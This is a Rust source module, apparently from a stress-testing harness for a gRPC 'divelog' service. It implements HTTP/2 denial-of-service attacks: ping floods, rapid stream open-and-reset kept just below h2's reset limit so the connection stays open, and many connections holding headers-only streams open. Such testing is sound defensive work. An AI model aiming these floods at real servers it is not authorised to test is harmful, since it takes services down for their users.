//! Attacks below gRPC: pings and resets, as fast as the connection takes them.

use bytes::BytesMut;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    sync::Notify,
    task::JoinSet,
};

use super::{
    AttackContext,
    floods::full_replay,
    frames::{self, Frames, kind},
    repeat::{Setback, keep_doing},
    unread::framed,
};

/// Connections of each of these attacks.
const CONNECTIONS: usize = 4;
/// How many pings are written at a time.
const PINGS: usize = 512;
/// How many calls are opened and reset before the server is asked whether it has seen them. Below the 20 that h2 lets be
/// reset before they are accepted, so that it does not end the connection.
const CALLS: u32 = 16;
/// Connections on which calls are only opened, and how many on each.
const HEAD_CONNECTIONS: usize = 200;
const HEADS: usize = 3_000;
/// The step from one call's stream to the next: clients have the odd numbers.
const STEP: u32 = 2;
/// The last stream number of which there are `CALLS` more.
const LAST_STREAM: u32 = (1 << 31) - 1 - CALLS * STEP;
/// How much is read at a time.
const READ: usize = 64 * 1_024;

/// Sends pings.
pub fn pings(context: &AttackContext, tasks: &mut JoinSet<()>) {
    for _ in 0..CONNECTIONS {
        keep_doing(tasks, context, async |context| connection(context, kind::PING, ping).await);
    }
}

/// Opens calls and resets them.
pub fn resets(context: &AttackContext, tasks: &mut JoinSet<()>) {
    for _ in 0..CONNECTIONS {
        keep_doing(tasks, context, async |context| connection(context, kind::HEADERS, open_and_reset).await);
    }
}

/// Opens calls of which nothing else comes.
pub fn heads(context: &AttackContext, tasks: &mut JoinSet<()>) {
    for _ in 0..HEAD_CONNECTIONS {
        keep_doing(tasks, context, async |context| connection(context, kind::HEADERS, open_only).await);
    }
}

/// One connection until the server ends it. Frames of the kind `answer` are answers.
async fn connection(
    context: &AttackContext,
    answer: u8,
    attack: impl AsyncFn(&AttackContext, OwnedWriteHalf, &Notify) -> Result<(), Setback>,
) -> Result<(), Setback> {
    let socket = TcpStream::connect(context.address).await?;
    socket.set_nodelay(true)?;
    let (reading, mut writing) = socket.into_split();
    writing.write_all(&frames::greeting()).await?;
    let ping_answered = Notify::new();
    tokio::select! {
        ended = read(context, reading, answer, &ping_answered) => ended,
        ended = attack(context, writing, &ping_answered) => ended,
    }
}

async fn ping(context: &AttackContext, mut socket: OwnedWriteHalf, _: &Notify) -> Result<(), Setback> {
    let pings = frames::pings(PINGS);
    loop {
        socket.write_all(&pings).await?;
        context.counts.begin(PINGS as u64);
        // The socket may go on taking it all at once; the reader has its turn too.
        tokio::task::yield_now().await;
    }
}

async fn open_and_reset(
    context: &AttackContext,
    mut socket: OwnedWriteHalf,
    ping_answered: &Notify,
) -> Result<(), Setback> {
    let headers = frames::grpc_headers(&context.address.to_string(), "/divelog.v1.AuditService/ReplayGame");
    let message = framed(&full_replay(&context.finished));
    let ping = frames::pings(1);
    let mut out = BytesMut::new();
    for first in (1..LAST_STREAM).step_by((CALLS * STEP) as usize) {
        let streams = || (first..).step_by(STEP as usize).take(CALLS as usize);
        out.clear();
        streams().for_each(|stream| frames::call(&mut out, stream, &headers, &message));
        socket.write_all(&out).await?;
        context.counts.begin(CALLS.into());
        tokio::task::yield_now().await;
        out.clear();
        streams().for_each(|stream| frames::reset(&mut out, stream));
        out.extend_from_slice(&ping);
        socket.write_all(&out).await?;
        ping_answered.notified().await;
    }
    Ok(())
}

async fn open_only(context: &AttackContext, mut socket: OwnedWriteHalf, _: &Notify) -> Result<(), Setback> {
    let headers = frames::grpc_headers(&context.address.to_string(), "/divelog.v1.GameService/GetGame");
    let mut out = BytesMut::new();
    for stream in (1..).step_by(STEP as usize).take(HEADS) {
        out.clear();
        frames::head(&mut out, stream, &headers);
        socket.write_all(&out).await?;
        context.counts.begin(1);
    }
    // Until the server ends it.
    std::future::pending().await
}

/// Reads what comes, and counts it.
async fn read(
    context: &AttackContext,
    mut socket: OwnedReadHalf,
    answer: u8,
    ping_answered: &Notify,
) -> Result<(), Setback> {
    let mut buffer = vec![0; READ];
    let mut frames = Frames::default();
    let mut went_away = false;
    loop {
        let read = socket.read(&mut buffer).await?;
        let (mut answers, mut resets) = (0, 0);
        frames.take(&buffer[..read], |kind| {
            answers += u64::from(kind == answer);
            resets += u64::from(kind == kind::RST_STREAM);
            went_away |= kind == kind::GOAWAY;
            if kind == kind::PING {
                ping_answered.notify_one();
            }
        });
        context.counts.answer(answers);
        for _ in 0..resets {
            context.counts.record_setback(Setback::Refused("the server reset a call".to_owned()));
        }
        if went_away {
            return Err(Setback::CutOff("the server sent GOAWAY".to_owned()));
        }
        if read == 0 {
            return Err(Setback::CutOff("the server ended the connection".to_owned()));
        }
    }
}
